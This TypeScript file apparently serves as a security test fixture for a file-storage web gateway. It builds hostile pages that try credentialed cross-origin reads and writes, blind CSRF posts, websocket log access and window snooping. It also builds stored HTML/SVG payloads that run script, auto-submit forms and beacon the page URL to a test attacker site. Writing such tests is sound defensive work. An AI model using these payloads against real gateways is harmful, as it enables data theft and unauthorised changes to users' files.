/**
 * Pages of somebody who would like to use a visitor's gateway: `attack` is what they do to a target, `HostileSite` where they
 * are served. A careless target, which lets everybody do anything, shows that each attack would work.
 */
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { IncomingMessage, ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { WebSocketServer } from 'ws';

/** What a script of the page does to a target, by name; each tells whether it got through. */
const ATTACKS = `
const WAIT_MS = 15000;
const within = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, WAIT_MS, false))]);
const element = (name, address) => new Promise((resolve) => {
  const made = document.createElement(name);
  made.onload = () => resolve(made);
  made.onerror = () => resolve(false);
  made.src = address;
  document.body.append(made);
});
const read = async (address, options) => {
  try {
    const reply = await fetch(address, { credentials: 'include', ...options });
    return reply.type !== 'opaque' && (await reply.text()).length >= 0 && reply.ok;
  } catch { return false; }
};
const attacks = {
  'read the state': (t) => read(t.base + '?t=json'),
  'read a directory': (t) => read(t.base + 'uri/' + t.directory + '?t=json'),
  'read a file': (t) => read(t.base + 'uri/' + t.file),
  'read statistics': (t) => read(t.base + 'statistics?t=json'),
  'store a file': (t) => read(t.base + 'uri', { method: 'PUT', body: 'x' }),
  'remove an entry': (t) => read(t.base + 'uri/' + t.directory + '/kept', { method: 'DELETE' }),
  'read with a header': (t) => read(t.base + '?t=json', { headers: { authorization: 'tahoe-lafs x' } }),
  'run an answer as a script': async (t) => (await element('script', t.base + '?t=json')) !== false,
  'see the pixels of a picture': async (t) => {
    const picture = await element('img', t.base + 'uri/' + t.picture);
    if (picture === false) return false;
    const canvas = document.createElement('canvas');
    canvas.getContext('2d').drawImage(picture, 0, 0);
    try { return canvas.toDataURL().length > 0; } catch { return false; }
  },
  'follow the log': (t) => new Promise((resolve) => {
    const socket = new WebSocket(t.base.replace('http', 'ws') + 'private/logs/v1');
    socket.onopen = () => resolve(true);
    socket.onerror = () => resolve(false);
  }),
  'look into a window': async (t) => {
    const opened = window.open(t.base + 'uri/' + t.directory);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    try { return opened.document.body.innerText.includes('kept'); } catch { return false; } finally { opened?.close(); }
  },
};
const blind = async (t) => {
  const post = (query, type, body) =>
    fetch(t.base + query, { method: 'POST', mode: 'no-cors', credentials: 'include', headers: { 'content-type': type }, body }).catch(() => undefined);
  const form = 'application/x-www-form-urlencoded';
  const directory = 'uri/' + t.directory;
  await post('uri?t=mkdir', form, '');
  await post(directory + '?t=mkdir&name=made', form, '');
  await post(directory, form, 't=mkdir&name=made');
  await post(directory + '?t=unlink&name=kept', form, '');
  await post(directory + '?t=uri&name=linked&uri=URI:LIT:ge', 'text/plain', '');
  await post(directory + '?t=check&repair=true', form, '');
  await post('report_incident', form, 'details=x');
  const upload = new FormData();
  upload.append('t', 'upload');
  upload.append('file', new File(['x'], 'uploaded'));
  await fetch(t.base + directory, { method: 'POST', mode: 'no-cors', body: upload }).catch(() => undefined);
  for (const query of ['?t=mkdir&name=made', '?t=unlink&name=kept', '?t=check&repair=true', '?t=upload&name=x'])
    await element('img', t.base + directory + query);
  navigator.sendBeacon(t.base + directory + '?t=mkdir&name=beacon', 'x');
};
const run = async (t) => {
  const results = {};
  for (const [name, attack] of Object.entries(attacks)) results[name] = await within(attack(t));
  await within(blind(t).then(() => true));
  return results;
};
`;

/** What the pages know of their target; they may even have come by capabilities. */
export interface Target {
  /** With a slash at its end. */
  readonly base: string;
  readonly directory: string;
  readonly file: string;
  readonly picture: string;
}

/** The expression that does all of it, on a page of the site. */
export function attack(target: Target): string {
  return `run(${JSON.stringify(target)})`;
}

/** The same as a page's own, where there is no page of the site. */
export function attackFromAnywhere(target: Target): string {
  return `(() => { ${ATTACKS} return run(${JSON.stringify(target)}); })()`;
}

/** A form that somebody is made to send. */
export interface HostileForm {
  readonly action: string;
  readonly type: 'application/x-www-form-urlencoded' | 'multipart/form-data' | 'text/plain';
  readonly fields: Readonly<Record<string, string>>;
}

/** A page that sends a form by itself once it is told `document.forms[0].submit()`. */
export function formPage({ action, type, fields }: HostileForm): string {
  const inputs = Object.entries(fields).map(([name, value]) => `<input type="hidden" name="${name}" value="${value}">`);
  return `<form action="${action}" method="post" enctype="${type}">${inputs.join('')}</form>`;
}

/** A request as it came. */
export interface SeenRequest {
  readonly method: string | undefined;
  readonly url: string | undefined;
  readonly headers: IncomingMessage['headers'];
}

/** A server on this machine. */
export class HostileSite {
  readonly seen: SeenRequest[] = [];
  readonly #server = createServer((request, response) => {
    this.#answer(request, response);
  });
  readonly #sockets = new WebSocketServer({ server: this.#server });
  readonly #pages: ReadonlyMap<string, string>;
  readonly #isCareless: boolean;

  /** @param isCareless - it is no site, but a target that lets everybody do anything. */
  constructor(pages: ReadonlyMap<string, string>, isCareless = false) {
    this.#pages = pages;
    this.#isCareless = isCareless;
  }

  async listen(): Promise<number> {
    this.#server.listen(0, '127.0.0.1');
    await once(this.#server, 'listening');
    return (this.#server.address() as AddressInfo).port;
  }

  close(): void {
    this.#sockets.close();
    this.#server.close();
    this.#server.closeAllConnections();
  }

  #answer(request: IncomingMessage, response: ServerResponse): void {
    const { method, url = '/', headers } = request;
    this.seen.push({ method, url, headers });
    request.resume();
    const path = url.split('?', 1).join('');
    const html = { 'content-type': 'text/html;charset=utf-8' };
    if (!this.#isCareless) {
      response.writeHead(200, html).end(this.#pages.get(path) ?? `<body><script>${ATTACKS}</script></body>`);
      return;
    }
    const open = {
      'access-control-allow-origin': headers.origin ?? '*',
      'access-control-allow-credentials': 'true',
      'access-control-allow-methods': 'PUT, DELETE',
      'access-control-allow-headers': 'authorization',
    };
    if (url.endsWith('/picture')) {
      response.writeHead(200, { 'content-type': 'image/svg+xml' }).end('<svg xmlns="http://www.w3.org/2000/svg"/>');
    } else if (url.endsWith('?t=json'))
      response.writeHead(200, { ...open, 'content-type': 'text/javascript' }).end('1');
    else response.writeHead(200, { ...open, ...html }).end('kept');
  }
}

/** Files that somebody may store, by the names under which they are asked for. */
export const STORED_PAGES = ['page.html', 'picture.svg', 'page.xhtml'] as const;

/** One of them: it would run a script, send a form, lead on, and tell its author's site who reads it. */
export function storedPage(name: (typeof STORED_PAGES)[number], { base, directory }: Target, site: string): string {
  const script =
    `document.title = 'pwned'; new Image().src = '${site}run?' + encodeURIComponent(location.href);` +
    `fetch('${base}uri/${directory}?t=mkdir&amp;name=made', { method: 'POST' });`;
  if (name === 'picture.svg') {
    return (
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="document.title = 'pwned'">` +
      `<title>still</title><image href="${site}seen.png"/><script>${script.replace('document.title', 'document.querySelector("title").textContent')}</script></svg>`
    );
  }
  const body =
    `<img src="${site}seen.png"/><img src="x" onerror="document.title = 'pwned'; setTimeout(function () { document.forms[0].submit(); }, 800)"/>` +
    `<form action="${base}uri/${directory}?t=mkdir&amp;name=made" method="post"><button>x</button></form>` +
    `<form action="${site}sent" method="post" id="f"></form><iframe src="${base}uri/${directory}"></iframe>` +
    `<iframe srcdoc="&lt;script&gt;parent.document.title='pwned'&lt;/script&gt;"></iframe>` +
    `<object data="${base}uri/${directory}"></object><a href="${site}">a</a><script>${script}</script>`;
  if (name === 'page.xhtml') {
    return `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>still</title></head><body>${body}</body></html>`;
  }
  const script2 = `${script.replaceAll('&amp;', '&')}setTimeout(() => document.getElementById('f').submit(), 1000)`;
  return `<title>still</title><meta http-equiv="refresh" content="30;url=${site}refreshed">${body.replace(script, '')}<script>${script2}</script>`;
}
